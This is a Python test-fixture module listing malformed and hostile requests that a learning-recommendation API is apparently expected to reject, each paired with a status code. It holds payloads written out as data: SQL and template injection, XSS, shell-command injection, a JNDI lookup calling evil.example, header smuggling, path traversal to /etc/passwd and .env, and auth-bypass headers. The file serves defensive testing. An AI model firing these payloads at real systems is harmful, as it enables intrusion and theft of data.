"""Requests that nobody sends by mistake, and the status with which each must be turned away."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from itertools import product
from urllib.parse import quote

JSON = {"content-type": "application/json"}
LEARNER = {"x-api-key": "learner"}
PLANNER = {"x-api-key": "planner"}
SCIENTIST = {"x-api-key": "data_scientist"}
SERVICE = {"x-api-key": "service"}
ADMIN = {"x-api-key": "admin"}


@dataclass(frozen=True)
class Case:
    """A request and the status that refuses it."""

    name: str
    method: str
    path: str
    status: int
    headers: dict[str, str] = field(default_factory=lambda: dict(ADMIN))
    body: bytes | None = None


GOOD: dict[str, dict[str, object]] = {
    "/v1/events": {"kind": "completion", "learner": "L3", "course": "c2"},
    "/v1/feedback": {"learner": "L3", "course": "c2", "rating": 1},
    "/v1/recommendations": {"limit": 3},
    "/api/recommendation/create": {"user_id": "L3", "department": "First"},
    "/courseRecommendation/feedback": {"recommendation_id": "x", "course_id": "c2", "rating": 1, "user_id": "L3"},
    "/trending/content/search": {"request": {"filters": {"contextType": ["courses"]}}},
    "/cbplan/v4/user/dictionary": {"request": {"planYear": "2026-27"}},
}
"""A body that each route would take."""


def _broken(good: dict[str, object]) -> Iterator[tuple[str, bytes]]:
    whole = json.dumps(good).encode()
    name = next(iter(good))
    yield "nothing", b""
    yield "half of it", whole[: len(whole) // 2]
    yield "two documents", whole + whole
    yield "a comma too many", whole[:-1] + b",}"
    yield "single quotes", whole.replace(b'"', b"'")
    yield "a comment", b"/* */" + whole
    yield "not a number", whole[:-1] + b', "x": NaN}'
    yield "infinity", whole[:-1] + b', "x": -Infinity}'
    yield "a number beyond numbers", whole[:-1] + b', "x": 1e999}'
    yield "five thousand digits", whole[:-1] + b', "x": ' + b"9" * 5_000 + b"}"
    yield "a key twice", whole[:-1] + b', "' + name.encode() + b'": "other"}'
    yield (
        "an escaped key twice",
        whole[:-1] + b', "\\u00' + f"{ord(name[0]):02x}".encode() + name[1:].encode() + b'": 1}',
    )
    yield "a byte order mark", b"\xef\xbb\xbf" + whole
    yield "UTF-16", whole.decode().encode("utf-16")
    yield "a byte that is no UTF-8", whole[:-1] + b', "x": "\xff"}'
    yield "half a character", whole[:-1] + b', "x": "\\ud800"}'
    yield "a NUL", whole[:-1] + b', "x": "a\\u0000b"}'
    yield "lists without end", b"[" * 100_000
    yield "five thousand lists", b"[" * 5_000 + b"]" * 5_000
    yield "empty lists without end", b"[" + b"[]," * 100_000 + b"[]]"
    yield "objects without end", b'{"a":' * 5_000 + b"1" + b"}" * 5_000
    yield "a text", b'"admin"'
    yield "a number", b"7"
    yield "null", b"null"


def bodies() -> Iterator[Case]:
    """Bodies that are not what they should be, for every route that takes one."""
    for path, good in GOOD.items():
        for name, body in _broken(good):
            yield Case(f"{path}: {name}", "POST", path, 422, ADMIN | JSON, body)
        whole = json.dumps(good).encode()
        yield Case(f"{path}: too much", "POST", path, 413, ADMIN | JSON, b" " * 2_100_000 + whole)
        for kind in (
            "", "text/plain", "text/json", "application/xml", "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x", "application/json; charset=utf-16",
        ):  # fmt: skip
            yield Case(f"{path}: as {kind or 'nothing'}", "POST", path, 415, ADMIN | {"content-type": kind}, whole)
        packed = ADMIN | JSON | {"content-encoding": "gzip"}
        yield Case(f"{path}: compressed", "POST", path, 415, packed, b"\x1f\x8b\x08" + bytes(20))


EVENTS: dict[str, tuple[object, int]] = {
    "an unknown kind": ({"kind": "promotion"}, 422),
    "a kind that is a list": ({"kind": ["completion"]}, 422),
    "a field nobody knows": ({"admin": True}, 422),
    "an id with a line break": ({"learner": "L3\r\nSet-Cookie: a=b"}, 422),
    "an id with a terminal's escape": ({"learner": "L3\x1b[2J"}, 422),
    "an id without end": ({"learner": "L" * 201}, 422),
    "an id that is a number": ({"learner": 3}, 422),
    "an id that is a list": ({"learner": ["L3", "L4"]}, 422),
    "an id that is an object": ({"learner": {"$ne": ""}}, 422),
    "an empty id": ({"learner": ""}, 422),
    "SQL as an id": ({"learner": "L3'; DROP TABLE learners; --"}, 404),
    "SQL as a course": ({"course": "c2' OR '1'='1"}, 404),
    "a template as a course": ({"course": "{{7*7}}"}, 404),
    "a path as a course": ({"course": "../../etc/passwd"}, 404),
    "a ratio below nothing": ({"dwell_ratio": -1}, 422),
    "a ratio as a text": ({"dwell_ratio": "0.5"}, 422),
    "a ratio without end": ({"dwell_ratio": 1e300}, 422),
    "a truth as a ratio": ({"dwell_ratio": True}, 422),
    "a day to come": ({"at": "2999-01-01T00:00:00Z"}, 409),
    "a day that is none": ({"at": "2026-02-30T00:00:00Z"}, 422),
    "a year beyond years": ({"at": "99999-01-01T00:00:00Z"}, 422),
    "a time as a number": ({"at": 1e18}, 422),
    "a moment before the first year": ({"at": "0001-01-01T00:00:00+14:00"}, 422),
    "a moment after the last year": ({"at": "9999-12-31T23:59:59-12:00"}, 422),
    "a zone that is none": ({"at": "2026-01-01T00:00:00+99:00"}, 422),
    "a key without end": ({"key": "k" * 201}, 422),
    "a key with a NUL": ({"key": "k\x00"}, 422),
    "a level beyond levels": ({"kind": "peer", "course": None, "competency": "data", "level": 6}, 422),
}


def events() -> Iterator[Case]:
    """Events that are not true, or could not be."""
    for name, (changes, status) in EVENTS.items():
        document = {"kind": "completion", "learner": "L3", "course": "c2"} | dict(changes)  # type: ignore[call-overload]
        yield Case(f"event: {name}", "POST", "/v1/events", status, SERVICE | JSON, json.dumps(document).encode())
    many = json.dumps([{"kind": "profile", "learner": f"N{n}"} for n in range(1_001)]).encode()
    yield Case("event: a thousand and one", "POST", "/v1/events", 422, SERVICE | JSON, many)
    yield Case("event: none", "POST", "/v1/events", 422, SERVICE | JSON, b"[]")


FIELDS: dict[str, tuple[str, dict[str, object]]] = {
    "a limit beyond": ("/v1/recommendations", {"limit": 101}),
    "a limit of nothing": ("/v1/recommendations", {"limit": 0}),
    "half a course": ("/v1/recommendations", {"limit": 1.5}),
    "a limit as a text": ("/v1/recommendations", {"limit": "3"}),
    "a history before the first year": (
        "/v1/recommendations", {"history": [{"course": "c2", "completed_on": "0001-01-01T00:00:00+14:00"}]},
    ),
    "a language that is code": ("/v1/recommendations", {"language": "en'--"}),
    "a history without end": ("/v1/recommendations", {"history": [{"course": f"c{n}"} for n in range(2_001)]}),
    "a designation without end": ("/v1/recommendations", {"profile": {"designation": "x" * 501}}),
    "a profile with a name": ("/v1/recommendations", {"profile": {"name": "somebody"}}),
    "a thumb sideways": ("/v1/feedback", {"rating": 2}),
    "a thumb as a text": ("/v1/feedback", {"rating": "1"}),
    "a comment without end": ("/v1/feedback", {"comments": "x" * 4_001}),
    "a department without end": ("/api/recommendation/create", {"department": "x" * 20_001}),
    "a device nobody has": ("/api/recommendation/create", {"device_type": "toaster"}),
    "no learner": ("/api/recommendation/create", {"user_id": ""}),
    "a learner that is a list": ("/api/recommendation/create", {"user_id": ["L3"]}),
    "a year that is code": ("/cbplan/v4/user/dictionary", {"request": {"planYear": "2026-27' OR 1=1"}}),
    "shelves without end": (
        "/trending/content/search", {"request": {"filters": {"contextType": ["courses"] * 21}}},
    ),
    "a shelf beyond": (
        "/trending/content/search", {"request": {"filters": {"contextType": ["courses"]}, "limit": 10**9}},
    ),
}  # fmt: skip


def fields() -> Iterator[Case]:
    """Bodies of the right form with values that cannot be."""
    for name, (path, changes) in FIELDS.items():
        yield Case(f"field: {name}", "POST", path, 422, SERVICE | JSON, json.dumps(GOOD[path] | changes).encode())


INJECTED = (
    "' OR '1'='1", "L3'; DROP TABLE learners; --", 'L3" UNION SELECT * FROM events --', "L3' AND SLEEP(9) --",
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% include '/etc/passwd' %}", "__class__.__mro__",
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "$(id)", "`id`", "; id",
    "|id", "${jndi:ldap://evil.example/a}", "%s%s%s%n", "L3\r\nSet-Cookie: a=b", "L3\nX-A: b", "\u202eL3", "L3\ufeff",
    "*", "L%", "L_", "\\", "..", "....", "NULL", "undefined", "-1", "😀" * 40, "a" * 201,
)  # fmt: skip
OUTSIDE = (
    "/static/../../../../etc/passwd", "/static/..%2f..%2f..%2fetc/passwd", "/static/%2e%2e/%2e%2e/etc/passwd",
    "/static/..%252f..%252fetc/passwd", "/static/..%c0%af..%c0%afetc/passwd", "/static/%00",
    "/static/style.css%00.html",
    "/static//etc/passwd", "/static/style.css/../../templates/base.html", "/static/..\\..\\settings.py",
    "/v1/courses/..%2f..%2fetc%2fpasswd", "/v1/learners/..%2fL3", "/v1/learners/%2e%2e%2fadmin/gaps", "//etc/passwd",
    "/.env", "/.git/config", "/karmapath.toml", "/store.sqlite3", "/v1/learners/L3%00/gaps", "/v1/learners/%00",
)  # fmt: skip


def paths() -> Iterator[Case]:
    """Ids and paths that would be something else somewhere else."""
    for text in INJECTED:
        status = 422 if len(text) > 200 else 404
        yield Case(f"learner: {text[:30]!r}", "GET", f"/v1/learners/{quote(text, safe='')}/gaps", status)
    for text in INJECTED[:20]:
        yield Case(f"role: {text[:30]!r}", "GET", f"/v1/learners/L3/gaps?role={quote(text, safe='')}", 404)
        yield Case(f"page: {text[:30]!r}", "GET", f"/learners/{quote(text, safe='')}", 404)
        yield Case(f"erase: {text[:30]!r}", "DELETE", f"/v1/learners/{quote(text, safe='')}", 404)
    for path in OUTSIDE:
        yield Case(f"path: {path}", "GET", path, 404)
    yield Case("path: without end", "GET", "/v1/courses/" + "a" * 5_000, 414)
    yield Case("question: without end", "GET", "/v1/courses?q=" + "a" * 30_000, 414)
    yield Case("question: a NUL", "GET", "/v1/courses?q=a%00b", 422)


ASKED = (
    "limit=0", "limit=-1", "limit=101", "limit=" + "9" * 400, "limit=1e3", "limit=0x10", "limit=1.5", "limit=nan",
    "limit=", "limit=5;DROP", "limit=5%20OR%201=1", "limit=1&limit=2", "limit[]=1", "limit[$gt]=0", "track=best",
    "track=guided&track=desirable", "language=Hindi", "language=e", "language=en%0d%0a", "lang=fr", "lang=../hi",
    "limt=5", "__proto__=1", "_method=DELETE", "learner=L4", "user_id=L4", "debug=true", "admin=true", "%00=1",
    "&".join(["category=a"] * 21), "category=a&=b",
)  # fmt: skip
HOURS = ("nan", "inf", "-inf", "1e309", "-1", "0", "2001", "1,5", "0x10", "9" * 400)


def questions() -> Iterator[Case]:
    """Query strings that ask for what there is not."""
    for query in ASKED:
        yield Case(f"question: {query[:40]}", "GET", f"/v1/learners/L3/recommendations?{query}", 422)
    for hours in HOURS:
        yield Case(f"hours: {hours[:10]}", "GET", f"/v1/learners/L3/paths/guided?hours={hours}", 422)


SECRETS = ("api_key=admin", "x-api-key=admin", "access_token=admin", "token=admin", "key=admin", "authorization=admin")
OTHERS = (
    "", "/recommendations", "/recommendations/why-not/c2", "/competencies", "/gaps", "/paths/guided",
    "/paths/guided/milestones", "/paths/desirable?role=clerk",
)  # fmt: skip
FAMILIES = ("/api/recommendation", "/courseRecommendation", "/api/courseRecommendation")


def callers() -> Iterator[Case]:
    """Callers who are not who they say, or ask for what is not theirs."""
    for query in SECRETS:
        yield Case(f"a secret in the question: {query}", "GET", f"/v1/roles?{query}", 401, {})
    for headers in (
        {"cookie": "x-api-key=admin"}, {"authorization": "admin"}, {"authorization": "Basic YWRtaW46YWRtaW4="},
        {"authorization": "Bearer"}, {"authorization": "Bearer  "}, {"authorization": "Bearer admin,learner"},
        {"x-api-key": "ADMIN"}, {"x-api-key": "admin\x7f"}, {"x-api-key": "' OR 1=1 --"}, {"x-api-key": "a" * 5_000},
        {"x-api-key": "8c6976e5b5410415bde908bd4dee15dfb167a9c873fc4bb8a81f6f2ab448a918"},
        {"x-authenticated-userid": "L3"}, {"wid": "L3"}, {"x-authenticated-user-roles": "KARMAPATH_ADMIN"},
        {"x-forwarded-for": "127.0.0.1"}, {"x-forwarded-host": "localhost"}, {"x-original-url": "/health"},
        {"x-rewrite-url": "/health"}, {"forwarded": "for=127.0.0.1"},
    ):  # fmt: skip
        yield Case(f"no proof: {headers}"[:80], "GET", "/v1/learners/L3/gaps", 401, headers)
    for rest in OTHERS:
        for headers in ({}, {"wid": "L4"}, {"x-authenticated-userid": "L4"}):
            yield Case(f"of another{rest}: {headers}", "GET", f"/v1/learners/L4{rest}", 403, LEARNER | headers)
        if rest:  # a record as a whole is for nobody who plans
            yield Case(f"of another organisation{rest}", "GET", f"/v1/learners/L7{rest}", 403, PLANNER)
        yield Case(f"a learner for a data scientist{rest}", "GET", f"/v1/learners/L3{rest}", 403, SCIENTIST)
    yield Case("the page of another", "GET", "/learners/L4", 403, LEARNER)
    yield Case("the page of another organisation", "GET", "/learners/L7", 403, PLANNER)
    for family in FAMILIES:
        body = json.dumps({"user_id": "L4", "department": "First"}).encode()
        yield Case(f"{family} of another", "POST", f"{family}/create", 403, LEARNER | JSON, body)
        yield Case(f"{family} body and header", "POST", f"{family}/create", 403, SERVICE | JSON | {"wid": "L3"}, body)
        for header, text in product(("wid", "x-authenticated-userid"), ("L" * 201, "L3\tL4", "L3\x7f")):
            named = SERVICE | JSON | {header: text}
            yield Case(f"{family}: read by {header} {text[:9]!r}", "GET", f"{family}/read/x", 422, named)
            yield Case(f"{family}: list for {header} {text[:9]!r}", "POST", f"{family}/create", 422, named, body)
    thumb = json.dumps({"learner": "L4", "course": "c2", "rating": 0}).encode()
    yield Case("a thumb of another", "POST", "/v1/feedback", 403, LEARNER | JSON, thumb)
    event = json.dumps(GOOD["/v1/events"]).encode()
    for who in (LEARNER, PLANNER, SCIENTIST):
        yield Case(f"an event by {who['x-api-key']}", "POST", "/v1/events", 403, who | JSON, event)
        yield Case(f"the log for {who['x-api-key']}", "GET", "/v1/audit", 403, who)
    for who in (LEARNER, PLANNER, SCIENTIST, SERVICE):
        yield Case(f"erased by {who['x-api-key']}", "DELETE", "/v1/learners/L3", 403, who)


SOUGHT = (
    "q=" + "a" * 401, "q=a%00b", "q=a&q=b", "limit=0", "limit=101", "limit=" + "9" * 400, "offset=-1", "offset=1000001",
    "language=Hindi", "language=en'--", "lang=fr", "order=best", "order=personal&order=relevance", "new=perhaps",
    "min_hours=nan", "min_hours=-1", "max_hours=inf", "max_hours=0", "max_hours=1e309", "max_fee=-1", "max_fee=1e99",
    "facet=price", "facet=__class__", "&".join(["facet=fee"] * 10), "&".join(["category=a"] * 21),
    "&".join(["competency=a"] * 51), "&".join(["organisation=a"] * 51), "&".join(["topic=a"] * 21), "fuzzy=true",
    "filters={}", "sort_by=name", "q[$ne]=", "learner=" + "a" * 201,
)  # fmt: skip
FOUND_NOTHING = ("L3'--", "..%2f..%2fetc%2fpasswd", "{{7*7}}", "%00", "L%25", "nobody")


def searches() -> Iterator[Case]:
    """Searches for what there is not, and in the name of others."""
    for query in SOUGHT:
        yield Case(f"search: {query[:40]}", "GET", f"/v1/search?{query}", 422)
    for learner in FOUND_NOTHING:
        status = 422 if learner == "%00" else 404
        yield Case(f"search for {learner}", "GET", f"/v1/search?learner={learner}", status)
    for who in (LEARNER, SCIENTIST):
        yield Case(f"search for another by {who['x-api-key']}", "GET", "/v1/search?learner=L4", 403, who)
    yield Case("search for another organisation's", "GET", "/v1/search?learner=L7", 403, PLANNER)
    yield Case("search for nobody by a planner", "GET", "/v1/search?learner=nobody", 403, PLANNER)
    yield Case("search without proof", "GET", "/v1/search?q=noting", 401, {})
    for moment in ("0001-01-01T00:00:00%2B14:00", "9999-12-31T23:59:59-12:00", "1e18", "-1"):
        yield Case(f"the log since {moment}", "GET", f"/v1/audit?since={moment}", 422)
    yield Case("search by POST", "POST", "/v1/search", 405, SERVICE | JSON, b"{}")
    group = {"request": {"multiFilters": [{"name": "x"}]}}
    for question in (
        group,
        {"request": {"multiFilters": {"name": {"$gt": ""}}}},
        {"request": {"filters": {"a" * 201: 1}}},
    ):
        body = json.dumps(question).encode()
        yield Case(f"content search: {body[:60]!r}", "POST", "/sunbirdigot/search", 422, SERVICE | JSON, body)


def methods() -> Iterator[Case]:
    """Methods that a route does not have, said plainly or behind another."""
    for method in ("PUT", "PATCH", "POST", "PROPFIND", "TRACE"):
        yield Case(f"{method} of a record", method, "/v1/learners/L3", 405, ADMIN | JSON, b"{}")
    for header in ("x-http-method-override", "x-http-method", "x-method-override"):
        hidden = ADMIN | JSON | {header: "DELETE"}
        yield Case(f"DELETE behind {header}", "POST", "/v1/learners/L3", 405, hidden, b"{}")
    yield Case("DELETE of events", "DELETE", "/v1/events", 405)
    yield Case("GET of events", "GET", "/v1/events", 405)


def cases() -> list[Case]:
    """Return every case but those of tokens, which must be signed first."""
    return [*bodies(), *events(), *fields(), *paths(), *questions(), *callers(), *searches(), *methods()]
